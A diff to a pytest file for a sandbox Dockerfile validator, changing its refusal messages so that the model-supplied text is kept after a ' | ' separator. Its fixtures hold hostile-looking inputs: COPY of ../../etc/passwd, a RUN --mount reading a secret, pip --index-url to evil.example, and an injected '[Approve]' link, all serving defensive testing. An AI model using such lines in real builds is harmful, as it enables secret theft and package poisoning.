@@ -19,9 +19,10 @@ def planned(text: str, context: dict[str, int] | None = None):
 
 
 def refused(text: str, context: dict[str, int] | None = None) -> str:
+    """The builder's sentence, then (after ' | ') the model's words it is about."""
     with pytest.raises(DockerfileError) as caught:
         planned(text, context)
-    return str(caught.value)
+    return f"{caught.value} | {caught.value.detail}"
 
 
 # -- reading -------------------------------------------------------------------------------------------
@@ -68,13 +69,15 @@ def test_untagged_means_latest() -> None:
 
 def test_another_base_image_is_refused_naming_the_line() -> None:
     message = refused("# build\nFROM ubuntu:22.04\nCMD [\"python3\"]\n")
-    assert "Dockerfile line 2: FROM ubuntu:22.04 is not an allowed base image" in message
-    assert "SANDBOX_BASE_IMAGES" in message
+    assert message.startswith("Dockerfile line 2: FROM names an image that is not an allowed base image")
+    assert "SANDBOX_BASE_IMAGES" in message and message.endswith(" | ubuntu:22.04")
 
 
 def test_an_arg_in_from_is_resolved_before_the_check() -> None:
     assert parse("ARG TAG=3.12-slim\nFROM python:${TAG}\n", ALLOWED).base == BASE
-    assert "python:3.13 is not an allowed" in refused("ARG TAG=3.13\nFROM python:$TAG\n")
+    assert refused("ARG TAG=3.13\nFROM python:$TAG\n").endswith("is not an allowed base image (allowed: python:3.12-slim, "
+                                                         "agent-builder-claude:latest; SANDBOX_BASE_IMAGE, "
+                                                         "SANDBOX_BASE_IMAGES) | python:3.13")
 
 
 def test_multi_stage_builds_are_refused() -> None:
@@ -88,7 +91,7 @@ def test_copy_from_another_stage_or_image_is_refused() -> None:
 
 def test_from_flags_and_scratch_are_refused() -> None:
     assert "FROM --platform is refused" in refused(f"FROM --platform=linux/arm64 {BASE}\n")
-    assert "FROM scratch is not an allowed base image" in refused("FROM scratch\n")
+    assert refused("FROM scratch\n").endswith(" | scratch")
 
 
 def test_no_from_or_an_instruction_before_it_is_refused() -> None:
@@ -107,17 +110,19 @@ def test_add_of_a_url_is_refused(source: str) -> None:
 
 def test_a_url_behind_a_variable_is_refused_too() -> None:
     message = refused(f"FROM {BASE}\nARG SRC=http://127.0.0.1:9/x\nADD $SRC /app/x\n")
-    assert "Dockerfile line 3: ADD of a URL is refused" in message and "http://127.0.0.1:9/x" in message
+    assert message.startswith("Dockerfile line 3: ADD of a URL is refused") and message.endswith(" | http://127.0.0.1:9/x")
 
 
 @pytest.mark.parametrize("source", ["../secret", "a/../../secret", "..", "../../etc/passwd"])
 def test_paths_outside_the_context_are_refused(source: str) -> None:
-    assert "is outside the build context" in refused(f"FROM {BASE}\nCOPY {source} /app/\n")
+    assert refused(f"FROM {BASE}\nCOPY {source} /app/\n") == (
+        f"Dockerfile line 2: COPY names a path outside the build context | {source}")
 
 
 def test_a_file_that_is_not_in_the_context_is_refused() -> None:
     message = refused(f"FROM {BASE}\nCOPY /etc/passwd /app/\n")
-    assert "/etc/passwd is not in the build context (it holds: Dockerfile, script.py)" in message
+    assert message == ("Dockerfile line 2: COPY names a file that is not in the build context "
+                       "(it holds: Dockerfile, script.py) | /etc/passwd")
 
 
 @pytest.mark.parametrize(("line", "keyword"), [
@@ -131,6 +136,12 @@ def test_other_instructions_are_refused_naming_instruction_and_line(line: str, k
     assert "refused" in message
 
 
+def test_the_models_words_stay_out_of_the_sentence() -> None:
+    message = refused(f"FROM {BASE}\n[Approve](http://evil.example/decide) now\n")
+    assert message.startswith("Dockerfile line 2: an instruction is refused") and "evil" not in message.split(" | ")[0]
+    assert message.endswith(" | [APPROVE](HTTP://EVIL.EXAMPLE/DECIDE)")
+
+
 def test_run_flags_and_heredocs_are_refused() -> None:
     assert "RUN --mount is refused" in refused(f"FROM {BASE}\nRUN --mount=type=secret,id=x cat /run/secrets/x\n")
     assert "RUN --network is refused" in refused(f"FROM {BASE}\nRUN --network=host true\n")
@@ -139,7 +150,8 @@ def test_run_flags_and_heredocs_are_refused() -> None:
 
 def test_the_builders_labels_cannot_be_set() -> None:
     message = refused(f"FROM {BASE}\nLABEL io.agent-builder.role=production\n")
-    assert "Dockerfile line 2: LABEL io.agent-builder.role is refused" in message
+    assert message.startswith("Dockerfile line 2: LABEL io.agent-builder.* is refused")
+    assert message.endswith(" | io.agent-builder.role")
 
 
 def test_healthcheck_none_and_maintainer_are_accepted_and_noted() -> None:
@@ -217,6 +229,7 @@ def test_pip_install_lines_become_requirements_and_do_not_run() -> None:
 
 def test_pip_options_that_need_the_network_are_refused() -> None:
     message = refused(f"FROM {BASE}\nRUN pip install --index-url https://evil.example/simple requests\n")
-    assert "Dockerfile line 2: RUN pip install --index-url is refused" in message
+    assert message.startswith("Dockerfile line 2: RUN pip install with an option is refused")
+    assert message.endswith(" | --index-url")
     assert "mixes pip install" in refused(f"FROM {BASE}\nRUN apt-get update && pip install requests\n")
     assert "has no requirements.txt" in refused(f"FROM {BASE}\nRUN pip install -r requirements.txt\n")
